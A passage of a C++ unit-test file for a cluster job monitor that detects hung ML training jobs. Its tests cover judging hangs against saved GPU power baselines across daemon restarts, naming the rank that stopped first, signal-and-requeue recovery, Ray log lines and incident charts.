// job hung had no sample of its training: no power baseline, and a
// busy-wait was plain `hang`. The baselines saved while the job trained
// now go into the restarted daemon's window. (Store mode, the one a test
// can feed over loopback, reads the window only while a verdict needs it:
// a first pause with the GPUs at training power reads it, the job goes on
// and its baselines are saved; then it hangs while the daemon is down for
// longer than `window`, so the store's answer after the restart holds the
// spin only, as a scraping daemon's empty window would.)
TEST_F(MonitorTest, AHangJudgedAfterARestartIsJudgedAgainstTheTrainingBeforeIt) {
  CentralStore central(now);
  ASSERT_TRUE(central.ok());
  config.evidence = "store";
  config.store_url = central.url();
  config.window_seconds = 120;
  const std::string diag = dir.path() + "/jobmon-diag-7";
  fs::create_directories(diag);
  std::ofstream(diag + "/manifest.json") << R"({"prometheus": {"port": 9190}})";
  source.jobs[0].user = "root";  // uid 0's name: the restarted daemon knows the user at once
  Reopen();
  Train(0, 60);
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);  // an evaluation, no step lines
  ASSERT_EQ(Incidents().size(), 1u);
  EXPECT_EQ(Incidents()[0].klass, "slow-not-hung") << Incidents()[0].summary;
  Train(61, 90);  // it goes on: the incident closes, the hosts' baselines are saved
  EXPECT_EQ(Incidents()[0].close_reason, "resumed");
  auto saved = store->HostBaselines(7).value();
  ASSERT_EQ(saved.size(), 2u);
  EXPECT_EQ(saved["node1"].power, 700);
  EXPECT_EQ(saved["node2"].power, 700);

  central.spin_from = now + 1;  // hung in a collective
  monitor.reset();              // and the daemon is down for 10 minutes of it
  now += 600;
  Reopen();
  monitor->Cycle(now += 1);
  // The 10 minutes nobody watched are not counted: the stall clock starts
  // when the restarted daemon has read the log, and the hang is raised
  // once past the bound from there.
  EXPECT_EQ(Incidents().size(), 1u) << "no incident on time the daemon did not watch";
  for (int i = 0; i < 35; ++i) monitor->Cycle(now += 1);
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 2u);
  EXPECT_EQ(incidents[1].klass, "hang/busy-wait") << incidents[1].summary;
  ASSERT_FALSE(incidents[1].evidence.empty());
  EXPECT_NE(incidents[1].evidence[0].find("(40% of its training baseline 700 W)"),
            std::string::npos)
      << incidents[1].evidence[0];
  EXPECT_EQ(store->HostBaselines(7).value(), saved) << "a stall does not replace them";

  source.jobs[0].state = "FAILED";  // the job ends: its baselines go with it
  monitor->Cycle(now += 1);
  ASSERT_TRUE(store->GetJob(7).value()->ended_at);
  EXPECT_TRUE(store->HostBaselines(7).value().empty());
}

// A job whose log has step lines takes no TensorBoard step as progress
// (job_progress.h), so store mode does not ask the store for one: at
// 10,000 jobs those queries were half of the store's each cycle.
TEST_F(MonitorTest, StoreModeAsksForTheTensorBoardStepOnlyWhileTheLogHasNoStepLines) {
  CentralStore central(now);
  ASSERT_TRUE(central.ok());
  config.evidence = "store";
  config.store_url = central.url();
  const std::string diag = dir.path() + "/jobmon-diag-7";
  fs::create_directories(diag);
  std::ofstream(diag + "/manifest.json") << R"({"prometheus": {"port": 9190}})";
  source.jobs[0].user = "root";
  Reopen();
  for (int i = 0; i < 3; ++i) monitor->Cycle(now += 1);
  const int before_steps = central.tensorboard_queries;
  EXPECT_GE(before_steps, 2) << "no step line yet: its progress may be TensorBoard's";
  Train(0, 10);
  EXPECT_EQ(central.tensorboard_queries, before_steps) << "the log's steps are the progress";
  EXPECT_TRUE(Incidents().empty());
}

// Where every rank prints its own steps (srun -l), the hang's
// alert names the rank that stopped first and how far behind it is.
TEST_F(MonitorTest, AStallNamesTheRankThatStoppedFirst) {
  for (int64_t s = 0; s <= 20; ++s) {
    Append(log_path, Step(s));
    if (s <= 18) Append(log_path, "1: completed step: " + std::to_string(s) + ", seconds: 1.000\n");
    monitor->Cycle(now += 1);
  }
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  const std::string named = "task 1 stopped first: at step 18, 2 steps behind the other 1 rank";
  EXPECT_NE(incidents[0].summary.find(named), std::string::npos) << incidents[0].summary;
  ASSERT_FALSE(incidents[0].evidence.empty());
  EXPECT_EQ(incidents[0].evidence[0].rfind("ranks: " + named, 0), 0u) << incidents[0].evidence[0];
}

// From alert to recovery (recovery.h): a --diag job whose owner chose
// requeue, on a cluster that allows it, is signalled after the grace period,
// requeued once the checkpoint wait runs out, and a daemon killed between
// the two neither repeats the signal nor skips the requeue; each step goes
// out as a follow-up of the incident. The same job choosing nothing (notify)
// gets nothing done.
class RecoveryTest : public MonitorTest {
 protected:
  void Diag(const std::string& on_hang) {
    const std::string diag = dir.path() + "/jobmon-diag-7";
    fs::create_directories(diag);
    std::ofstream(diag + "/manifest.json", std::ios::trunc)
        << R"({"prometheus": {"port": 9190}, "on_hang": ")" + on_hang + R"("})";
    source.jobs[0].user = "root";  // uid 0's name: the job's files are readable at once
    config.recovery.allowed = {OnHang::kSignal, OnHang::kRequeue};
    config.recovery.classes = {"hang"};
    config.recovery.grace_seconds = 10;
    config.recovery.checkpoint_wait_seconds = 20;
    Reopen();
  }
  std::vector<std::string> RecoverySent() {
    std::vector<std::string> out;
    for (const alerts::Alert& a : notifier.sent) {
      if (!a.recovery.empty()) out.push_back(a.recovery_step);
    }
    return out;
  }
};

TEST_F(RecoveryTest, SignalledAfterTheGraceRequeuedOnceAcrossADaemonRestart) {
  Diag("requeue");
  Train(0, 40);
  for (int i = 0; i < 35; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(Incidents().size(), 1u);
  EXPECT_TRUE(source.actions.empty()) << "within the grace period";
  for (int i = 0; i < 12; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(source.actions, std::vector<std::string>{"signal 7 USR1"});
  Reopen();  // the daemon killed while the job should be checkpointing
  for (int i = 0; i < 25; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(source.actions.size(), 2u) << "the signal is not sent again";
  EXPECT_EQ(source.actions[1].rfind("requeue 7 without", 0), 0u) << source.actions[1];
  for (int i = 0; i < 10; ++i) monitor->Cycle(now += 1);
  EXPECT_EQ(source.actions.size(), 2u) << "never twice";
  EXPECT_EQ(RecoverySent(),
            (std::vector<std::string>{"signal", "checkpoint-timeout", "requeue", "done"}));
  EXPECT_EQ(monitor->stats().recovery_steps.at("done"), 1u);
}

TEST_F(RecoveryTest, NothingIsDoneForAJobWhoseOwnerChoseNothingOrThatIsHeld) {
  Diag("notify");
  Train(0, 40);
  for (int i = 0; i < 80; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(Incidents().size(), 1u);
  EXPECT_TRUE(source.actions.empty());
  EXPECT_TRUE(RecoverySent().empty());

  Diag("signal");
  ASSERT_TRUE(store->HoldRecovery(7, now, 1000).ok());
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  EXPECT_TRUE(source.actions.empty()) << "held by its owner";
  EXPECT_EQ(RecoverySent(), std::vector<std::string>{"held"});
}

// Ray's folded lines (triage/rank_progress.h IsRayFolded) are the job's
// progress whichever actor printed last, and the alert names no actor: it
// says why instead.
TEST_F(MonitorTest, RaysFoldedLinesAreProgressAndTheAlertNamesNoActor) {
  Append(log_path, "(RayTrainWorker pid=4211) step 1 loss 1.0\n");
  monitor->Cycle(now += 1);
  for (int64_t s = 2; s <= 20; ++s) {
    // The latest source alternates, as Ray's 5 s windows take it.
    Append(log_path, "(RayTrainWorker pid=" + std::string(s % 2 ? "3907" : "4211") + ") step " +
                         std::to_string(s) +
                         " loss 0.1\x1b[32m [repeated 2x across cluster]\x1b[0m\n");
    monitor->Cycle(now += 1);
  }
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  EXPECT_EQ(incidents[0].summary.find("stopped first"), std::string::npos) << incidents[0].summary;
  EXPECT_NE(incidents[0].summary.find("last step 19"), std::string::npos)
      << "every folded line counts: " << incidents[0].summary;
  ASSERT_FALSE(incidents[0].evidence.empty());
  EXPECT_EQ(incidents[0].evidence[0].rfind("ranks: Ray folded its actors' alike lines", 0), 0u)
      << incidents[0].evidence[0];
}

// A firing carries the incident's chart (gnuplot, chart/gnuplot_chart.h),
// the store keeps it for `jobmon status --html`, and the resolve carries
// none. Without gnuplot the alert still goes, chartless, and it is counted.
TEST_F(MonitorTest, AFiringAlertCarriesTheIncidentsChartAndTheStoreKeepsIt) {
  Train(0, 40);
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(Incidents().size(), 1u);
  ASSERT_FALSE(notifier.sent.empty());
  const alerts::Alert& firing = notifier.sent.front();
  ASSERT_EQ(firing.status, "firing");
  ASSERT_EQ(firing.chart_png.rfind("\x89PNG", 0), 0u) << "a PNG, " << firing.chart_png.size();
  auto kept = store->LatestIncidentChart(7).value();
  ASSERT_TRUE(kept);
  EXPECT_EQ(kept->first, Incidents()[0].id);
  EXPECT_EQ(kept->second, firing.chart_png);
  EXPECT_EQ(monitor->stats().chart_failures, 0u);
  Train(41, 45);
  ASSERT_EQ(notifier.sent.back().status, "resolved");
  EXPECT_TRUE(notifier.sent.back().chart_png.empty());

  config.gnuplot = "/nonexistent/gnuplot";
  monitor->Reconfigure(config);
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  ASSERT_EQ(notifier.sent.back().status, "firing");
  EXPECT_TRUE(notifier.sent.back().chart_png.empty());
  EXPECT_EQ(monitor->stats().chart_failures, 1u);
}

// The picture: the trail's steps, the expected line through the last
// progress at the median step time, the stall from the last progress.
TEST(IncidentPicture, TheExpectedLinePassesTheLastProgressAndTheStallStartsThere) {
  std::vector<ProgressTracker::TrailPoint> trail;
  for (int64_t s = 0; s <= 100; ++s) trail.push_back({1000.0 + 2.0 * s, s});
  ProgressState state;
  state.phase = Phase::kStalled;
  state.median_interval = 2;
  state.last_step_time = 1200;
  MetricWindow window;
  const chart::Picture picture =
      IncidentPicture("Job 7: hang", trail, state, &window, {}, 990, 1300);
  EXPECT_EQ(picture.from, 990);
  EXPECT_EQ(picture.to, 1300);
  ASSERT_EQ(picture.expected.size(), 2u);
  EXPECT_DOUBLE_EQ(picture.expected.front().v, 0);  // step 0 at 1000, on the trail
  EXPECT_DOUBLE_EQ(picture.expected.front().t, 1000);
  EXPECT_DOUBLE_EQ(picture.expected.back().v, 150);  // 100 + 100 s / 2 s
  EXPECT_EQ(picture.stall_since, 1200);
  EXPECT_EQ(picture.alerted_at, 1300);
  EXPECT_EQ(picture.steps.size(), 101u);
  EXPECT_TRUE(picture.hosts.empty());
}

// The cycle knows one evidence interface (monitor/src/evidence/
// evidence_feed.h): a SIGHUP that switches [monitor] evidence to the store
// swaps the feed, and a store that does not answer makes the stall a hang
// without evidence, never one judged from an empty window.
TEST_F(MonitorTest, ReconfiguredToTheStoreTheCycleAsksTheStoreAndNotTheExporters) {
  const std::string diag = dir.path() + "/jobmon-diag-7";
  fs::create_directories(diag);
  std::ofstream(diag + "/manifest.json") << R"({"prometheus": {"port": 9190}})";
  source.jobs[0].user = "root";
  Reopen();
  Train(0, 30);
  EXPECT_EQ(monitor->stats().store_queries, 0u) << "scrape mode asks no store";
  config.evidence = "store";
  config.store_url = "http://127.0.0.1:1";  // nothing listens: refused at once
  monitor->Reconfigure(config);
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  EXPECT_GT(monitor->stats().store_queries, 0u);
  EXPECT_EQ(monitor->stats().store_failures, monitor->stats().store_queries);
  auto incidents = Incidents();
  ASSERT_EQ(incidents.size(), 1u);
  EXPECT_EQ(incidents[0].klass, "hang");
  EXPECT_NE(incidents[0].summary.find("no system evidence (the central store has not answered)"),
            std::string::npos)
      << incidents[0].summary;
}

}  // namespace
}  // namespace jobmon::monitor
